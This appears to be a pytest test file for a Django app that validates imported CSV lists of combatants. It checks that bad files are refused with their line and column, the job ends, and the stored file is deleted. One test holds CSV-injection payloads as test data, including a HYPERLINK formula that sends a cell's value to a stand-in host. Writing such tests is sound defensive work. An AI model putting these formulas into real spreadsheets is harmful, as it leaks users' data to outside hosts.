"""A list file built to break the import: it is refused with a reason, the job ends, the file goes."""

from __future__ import annotations

import re
from typing import Any

import pytest
from django.core.files.storage import default_storage
from django.urls import reverse

from accounts.models import User
from core.models import Job
from ddr.lists import services as lists
from ddr.models import Combatant, ListImport

from .test_list_import import HEADER, V1, _form, start

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def media(settings: Any, tmp_path: Any) -> None:
    settings.MEDIA_ROOT = tmp_path


ROW = "Touré;Aïssata;F;03/04/1990;Gao;MN-{n};;;;\n"


def digits(text: str) -> str:
    """Numbers as written without their thousands separator (French pages write 5 000)."""
    return re.sub(r"(\d)\D(?=\d{3}\b)", r"\1", text)


def validate(user: User, text: str) -> ListImport:
    record = start(user, text)
    stored = record.file.name
    assert default_storage.exists(stored)
    record = lists.list_import_validate(import_id=record.pk)
    record.refresh_from_db()
    record.stored_name = stored  # type: ignore[attr-defined]
    return record


def assert_refused_and_file_deleted(record: ListImport) -> None:
    assert record.status == ListImport.Status.INVALID
    assert record.job.status == Job.Status.DONE  # never left "checking"
    assert not default_storage.exists(record.stored_name)  # type: ignore[attr-defined]
    assert not record.file


def test_a_cell_over_the_csv_field_limit_is_refused_not_left_checking(commission_officer: Any) -> None:
    record = validate(commission_officer, f"{HEADER}\nTouré;{'A' * 131_073};F;1990;Gao;MN-1;;;;\n")
    assert_refused_and_file_deleted(record)
    assert "2" in record.message and "131" in record.message


def test_a_file_with_bare_cr_line_endings_is_read(commission_officer: Any) -> None:
    record = validate(commission_officer, V1.replace("\n", "\r"))
    assert record.status == ListImport.Status.READY and record.valid_rows == 3


def test_a_name_longer_than_its_field_is_refused_in_the_preview(commission_officer: Any) -> None:
    record = validate(commission_officer, f"{HEADER}\n{'N' * 100_000};Aïssata;F;1990;Gao;MN-1;;;;\n")
    assert_refused_and_file_deleted(record)
    [error] = record.errors
    assert (error["line"], error["column"]) == (2, "Nom")  # the file's own header
    assert "100000" in error["reason"] and len(error["reason"]) < 300
    assert not Combatant.objects.exists()


@pytest.mark.parametrize("control", ["\x00", "\x07", "\x1b"])
def test_a_control_character_is_refused_with_its_line(commission_officer: Any, control: str) -> None:
    record = validate(
        commission_officer, f"{HEADER}\n{ROW.format(n=1)}Cissé{control};Ali;M;1990;Gao;MN-2;;;;\n"
    )
    assert_refused_and_file_deleted(record)
    [error] = record.errors
    assert (error["line"], error["column"]) == (3, "Nom")
    assert f"U+{ord(control):04X}" in error["reason"]


def test_a_tab_inside_a_name_is_accepted(commission_officer: Any) -> None:
    record = validate(commission_officer, f"{HEADER}\nTouré\tMaïga;Aïssata;F;1990;Gao;MN-1;;;;\n")
    assert record.status == ListImport.Status.READY


def test_errors_are_capped_with_their_total_paged_and_downloadable(
    commission_client: Any, commission_officer: Any, settings: Any
) -> None:
    bad = "".join(f"Cissé;Ali;X;1990;Gao;MN-{n};;;;\n" for n in range(5000))  # unknown sex
    record = validate(commission_officer, f"{HEADER}\n{bad}")
    assert_refused_and_file_deleted(record)
    assert len(record.errors) == settings.DDR_IMPORT_MAX_ERRORS == 1000
    assert record.error_count == 5000
    page = commission_client.get(reverse("ddr:import-detail", args=[record.pk])).content.decode()
    assert page.count("<td>Prénom</td>") + page.count("<td>Sexe</td>") == 50
    counted = digits(page[page.index('data-testid="error-count"') :].split("</p>")[0])
    assert "5000" in counted and "1000" in counted and "?page=2" in page
    assert "<td>1001</td>" not in page
    second = commission_client.get(reverse("ddr:import-detail", args=[record.pk]) + "?page=2").content.decode()
    assert "<td>52</td>" in second
    report = commission_client.get(reverse("ddr:import-errors", args=[record.pk])).content.decode()
    assert len(report.splitlines()) == 1 + 1000 + 1  # header, the stored errors, the rest counted
    assert "4000" in report.splitlines()[-1]


def test_an_unexpected_failure_ends_the_job_failed_and_deletes_the_file(
    commission_officer: Any, monkeypatch: Any
) -> None:
    def broken(*args: Any, **kwargs: Any) -> Any:
        raise RuntimeError("disk gone")

    monkeypatch.setattr(lists, "check_list_file", broken)
    record = start(commission_officer, V1)
    stored = record.file.name
    with pytest.raises(RuntimeError):
        lists.list_import_validate(import_id=record.pk)
    record.refresh_from_db()
    assert record.status == ListImport.Status.FAILED and record.message
    assert record.job.status == Job.Status.FAILED and record.job.finished_at
    assert not default_storage.exists(stored)


def test_a_ready_file_is_kept_for_the_commit_and_as_the_lists_original(commission_officer: Any) -> None:
    record = validate(commission_officer, V1)
    assert record.status == ListImport.Status.READY and default_storage.exists(record.file.name)
    lists.list_import_queue_commit(record=record, by=commission_officer)
    record = lists.list_import_commit(import_id=record.pk)
    assert record.result.original_file.name == record.file.name
    assert default_storage.exists(record.file.name)


def test_an_oversized_list_is_refused_before_it_is_stored(commission_client: Any, settings: Any) -> None:
    settings.DDR_IMPORT_MAX_BYTES = 1000
    response = commission_client.post(reverse("ddr:import-new"), _form(V1 * 10))
    assert response.status_code == 400 and "0.001" in response.content.decode()
    assert not ListImport.objects.exists()


@pytest.mark.parametrize("formula", ["=1+1", '=HYPERLINK("http://x.example/?q="&A1;"Cliquez")', "@SUM(A1)"])
def test_a_formula_cell_is_one_error_named_by_the_files_header(commission_officer: Any, formula: str) -> None:
    """CSV injection: a formula in any column is refused once, under the column's own header, and
    nothing else is said of that cell (no "required value missing", no "unknown region" after it)."""
    from ddr.lists.parse import TEMPLATE

    headers = [header for _column, header, _example in TEMPLATE]

    def line(n: int, formula_in: int | None = None) -> str:
        cells = [example for _column, _header, example in TEMPLATE]
        cells[headers.index("Matricule")] = f"M-{n}"
        cells[headers.index("Numéro de pièce")] = f"NINA-{n}"
        cells[headers.index("Numéro de série")] = f"AK-{n}"
        if formula_in is not None:
            cells[formula_in] = formula.replace(";", ",")
        return ";".join(f'"{c}"' if '"' in c else c for c in (c.replace('"', '""') for c in cells))

    rows = [line(0)] + [line(i + 1, formula_in=i) for i in range(len(headers))]
    record = validate(commission_officer, ";".join(headers) + "\n" + "\n".join(rows) + "\n")
    assert_refused_and_file_deleted(record)
    found = [(e["line"], e["column"]) for e in record.errors]
    assert found == [(i + 3, header) for i, header in enumerate(headers)]  # one a cell, in its header
    assert record.error_count == len(headers)
    assert [e for e in record.errors if "formule" not in e["reason"]] == []  # said as a formula
